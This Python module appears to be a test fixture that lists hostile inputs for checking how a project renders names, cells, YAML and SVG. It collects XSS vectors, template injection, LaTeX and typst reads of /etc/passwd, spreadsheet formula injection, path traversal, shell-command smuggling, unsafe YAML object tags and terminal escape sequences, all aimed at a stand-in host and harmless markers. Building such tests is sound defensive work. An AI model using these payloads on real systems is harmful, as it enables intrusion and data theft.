"""The table of attacks: what somebody might print in a budget, call a file or write into parameters, and whom it is meant to fool.

Every element that an attack would make carries `data-attack`, what it would run sets `window.attacked`, what it
would ask for is at `attack.invalid`, and what it would write is a file called `attacked`.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """Hostile words, and whom they are meant to fool."""

    name: str
    against: str
    words: str


RUN = "window.attacked=1"
OPEN = "open('attacked','w')"

WORDS = (
    Attack("script", "page", f"<script data-attack>{RUN}</script>"),
    Attack("script from elsewhere", "page", "<script data-attack src=https://attack.invalid/a.js></script>"),
    Attack("end of our script", "page", f"</script><script data-attack>{RUN}</script>"),
    Attack("end of our style", "page", f"</style><img data-attack src=x onerror={RUN}>"),
    Attack("end of the title", "page", f"</title></head><body data-attack onload={RUN}>"),
    Attack("event handler", "page", f"<img data-attack src=x onerror={RUN}>"),
    Attack("event handler that needs nobody", "page", f"<details data-attack open ontoggle={RUN}>"),
    Attack("focus", "page", f"<input data-attack autofocus onfocus={RUN}>"),
    Attack("end of an attribute", "page", f'" data-attack onmouseover="{RUN}" x="'),
    Attack("end of an attribute in single quotes", "page", f"' data-attack onmouseover='{RUN}' x='"),
    Attack("drawing", "page", f"<svg data-attack onload={RUN}><script>{RUN}</script></svg>"),
    Attack(
        "animated link", "page", f'<svg data-attack><a><animate attributeName=href values="javascript:{RUN}"/><text>甲</text></a></svg>'
    ),
    Attack("other elements in a drawing", "page", f"<svg data-attack><foreignObject><iframe srcdoc='<script>{RUN}</script>'></svg>"),
    Attack("formula language", "page", f'<math data-attack><mtext><style><img src=x onerror="{RUN}"></style></mtext></math>'),
    Attack("style sheet", "page", "<style data-attack>*{display:none;background:url(https://attack.invalid/a)}</style>"),
    Attack("style of an element", "page", '<p data-attack style="position:fixed;inset:0;background:url(https://attack.invalid/b)">'),
    Attack("frame of data", "page", f"<iframe data-attack src='data:text/html,<script>parent.{RUN}</script>'></iframe>"),
    Attack("link that runs", "page", f'<a data-attack href="javascript:{RUN}">甲</a>'),
    Attack("Markdown link that runs", "page", f"[甲](javascript:{RUN})"),
    Attack("Markdown picture", "page", "![甲](https://attack.invalid/c.png)"),
    Attack("other address for every link", "page", "<base data-attack href=https://attack.invalid/>"),
    Attack("another page after a moment", "page", '<meta data-attack http-equiv=refresh content="0;url=https://attack.invalid/d">'),
    Attack("form", "page", f"<form data-attack action=https://attack.invalid/><button autofocus onfocus={RUN}>甲</button></form>"),
    Attack("end of a comment", "page", f"--><img data-attack src=x onerror={RUN}><!--"),
    Attack("section of characters", "page", f"]]><img data-attack src=x onerror={RUN}><![CDATA["),
    Attack("escaped already", "page", f"&lt;img data-attack src=x onerror={RUN}&gt;"),
    Attack("by numbers", "page", "&#60;img data-attack src=x&#62;"),
    Attack("template", "template", "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for a in b %}"),
    Attack("format", "template", "{0.__class__}{name!r}%(name)s${HOME}"),
    Attack("file read by typst", "paper", '#read("/etc/passwd")#include "/etc/passwd"'),
    Attack("code in typst", "paper", '#eval("1+1")#panic("attacked")\\u{41}'),
    Attack("marks of typst", "paper", "*甲* _乙_ $x$ @丙 <丁> ] ) // 戊 /* 己"),
    Attack("code in LaTeX", "paper", "\\input{/etc/passwd}\\write18{touch attacked}"),
    Attack("end of a text", "notebook", f'"; {OPEN}; "'),
    Attack("end of a long text", "notebook", f"'''\n{OPEN}\n'''"),
    Attack("end of a line", "notebook", f"甲\n{OPEN}\n%%bash\ntouch attacked"),
    Attack("escapes", "notebook", f'\\"; {OPEN} #\\'),
    Attack("magic", "notebook", "!touch attacked $(touch attacked) `touch attacked` %run /etc/passwd"),
    Attack("formula", "spreadsheet", "=cmd|'/C calc'!A0"),
    Attack("formula that asks", "spreadsheet", '=HYPERLINK("https://attack.invalid/e","甲")'),
    Attack("plus", "spreadsheet", "+1+1"),
    Attack("minus", "spreadsheet", "-2+3+cmd|' /C calc'!A0"),
    Attack("at", "spreadsheet", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Attack("formula in full width", "spreadsheet", "＝1+1"),
    Attack("formula of an array", "spreadsheet", "{=1+1}"),
    Attack("escape of a workbook", "spreadsheet", "_x003D_1+1"),
    Attack("clear the screen", "terminal", "甲\x1b[2J\x1b[1;1H乙"),
    Attack("title of the window", "terminal", "甲\x1b]0;attacked\x07乙"),
    Attack("hidden link", "terminal", "甲\x1b]8;;https://attack.invalid/\x1b\\乙\x1b]8;;\x1b\\"),
    Attack("one byte for two", "terminal", "甲\x9b2J\x84\x90乙"),
    Attack("written over", "terminal", "甲\x08\x08\x7f乙"),
    Attack("right to left", "reader", "甲\u202e元万100\u202c乙\u2067丙\u2069\u200f"),
    Attack("without a shape", "reader", "甲\u200b\u2060\ufeff\u00ad乙"),
    Attack("heaped marks", "reader", "甲" + "\u0301\u0489" * 40 + "乙"),
    Attack("private and not assigned", "reader", "甲\ue000\U000f0000\U0010ffff乙"),
    Attack("without end", "reader", "甲" * 3000),
)
"""Words of a document: names, labels, cells, sentences; those with a line end only where a text may hold one."""

NAMES = (
    Attack("folder above", "files", "../../attacked"),
    Attack("absolute", "files", "/etc/attacked"),
    Attack("folder above, other way round", "files", "..\\..\\attacked"),
    Attack("drive", "files", "C:\\attacked"),
    Attack("share", "files", "\\\\attack.invalid\\c$"),
    Attack("nothing but dots", "files", ".."),
    Attack("reserved", "files", "CON"),
    Attack("reserved with an ending", "files", "nul.txt"),
    Attack("a stream of a file", "files", "甲:attacked"),
    Attack("300 characters", "files", "长" * 300),
    Attack("end that Windows drops", "files", "甲局. ."),
    Attack("home", "files", "~root"),
    Attack("option", "files", "--output=attacked"),
    Attack("pattern", "files", "*?[a-z]{a,b}"),
    Attack("code for a shell", "files", "'; touch attacked; $(touch attacked) `touch attacked` #"),
    Attack("control characters", "terminal", "甲\x1b[2J\x07\x00局"),
    Attack("line end", "files", "甲\n乙\r丙"),
    Attack("right to left", "reader", "甲\u202etxt.exe"),
    Attack("element", "page", f"<img data-attack src=x onerror={RUN}>"),
    Attack("formula", "spreadsheet", "=1+1"),
)
"""Names of organisations, from which folders and files are called, and of documents as far as a file may be called so."""

YAMLS = (
    Attack("tag that runs", "loader", 'department: !!python/object/apply:os.system ["touch attacked"]\n'),
    Attack("tag of an object", "loader", "department: !!python/object/new:type {}\n"),
    Attack("tag of ours", "loader", "department: !attack x\n"),
    Attack("anchor", "loader", "a: &a x\ndepartment: *a\n"),
    Attack("merged", "loader", "a: &a {level: 单位}\n<<: *a\n"),
    Attack(
        "billion laughs",
        "loader",
        "a: &a [x,x,x,x]\n" + "".join(f"{k}: &{k} [*{p},*{p},*{p},*{p}]\n" for p, k in zip("abcdefg", "bcdefgh", strict=True)),
    ),
    Attack("anchor of itself", "loader", "a: &a [*a]\n"),
    Attack("depth without end", "loader", "department: " + "[" * 100_000 + "\n"),
    Attack("a key twice", "loader", "level: 单位\nlevel: 单位\n"),
    Attack("two documents", "loader", "level: 单位\n---\nlevel: 部门\n"),
    Attack("control characters", "terminal", "department: 甲\x1b[2J\n"),
    Attack("not UTF-8", "loader", "department: \udcff\udcfe\n"),
    Attack("unknown key that acts", "terminal", '"\\e[2J甲": x\n'),
)
"""What a YAML file of a project may hold that would mean something else than it shows."""

DRAWINGS = (
    Attack("script", "page", "<script>alert(1)</script>"),
    Attack("style sheet", "page", "<style>*{display:none}</style>"),
    Attack("other elements", "page", "<foreignObject><body onload='alert(1)'/></foreignObject>"),
    Attack("link that runs", "page", "<a xlink:href='javascript:alert(1)'><text>x</text></a>"),
    Attack("picture from elsewhere", "page", "<image xlink:href='https://example.org/x.png'/>"),
    Attack("drawing in a drawing", "page", "<image href='data:image/svg+xml;base64,AAAA'/>"),
    Attack("use from elsewhere", "page", "<use href='https://example.org/x.svg#y'/>"),
    Attack("animation", "page", "<animate attributeName='x' onbegin='alert(1)'/>"),
    Attack("event handler", "page", "<rect onclick='alert(1)' onload='alert(1)'/>"),
    Attack("paint from elsewhere", "page", "<rect fill='url(https://example.org/x)'/>"),
    Attack("style of an element", "page", "<rect style='fill:url(javascript:alert(1));background:url(x);width:expression(1)'/>"),
)
"""What stands in a picture that a cell of a notebook shows."""

TABLES = {"words": WORDS, "names": NAMES, "yaml": YAMLS, "drawings": DRAWINGS}
